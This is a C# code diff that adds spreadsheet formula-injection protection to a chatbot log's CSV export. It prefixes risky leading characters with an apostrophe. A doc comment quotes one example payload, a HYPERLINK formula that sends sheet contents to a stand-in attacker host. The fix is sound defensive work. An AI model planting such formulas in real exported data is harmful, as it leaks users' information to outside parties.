@@ -7,6 +7,11 @@ namespace KforBot.Log.Output;
 /// The CSV export (RFC 4180): the fields of <see cref="EntryJson"/> in the same order and names, a header line,
 /// every field quoted when it holds a comma, a quote or a line break; article ids separated by spaces.
 /// </summary>
+/// <remarks>
+/// Questions and notes are anyone's text, and a spreadsheet runs a cell that starts with = + - @ (or a tab or
+/// carriage return before one) as a formula: <c>=HYPERLINK("http://evil.example/?"&amp;A1)</c> would send the
+/// sheet's contents away. Such a field is written with a leading apostrophe, as OWASP advises, so it opens as text.
+/// </remarks>
 internal static class EntryCsv
 {
     public const string Header = "id,at,channel,user,question,refused,reason,articleIds,indexVersion,latencyMs,feedback,status,note,chatType,nowAnswerable";
@@ -29,6 +34,11 @@ internal static class EntryCsv
         if (string.IsNullOrEmpty(field))
         {
             return string.Empty;
+        }
+
+        if (field[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
+        {
+            field = "'" + field;
         }
 
         if (field.AsSpan().IndexOfAny(",\"\r\n") < 0)
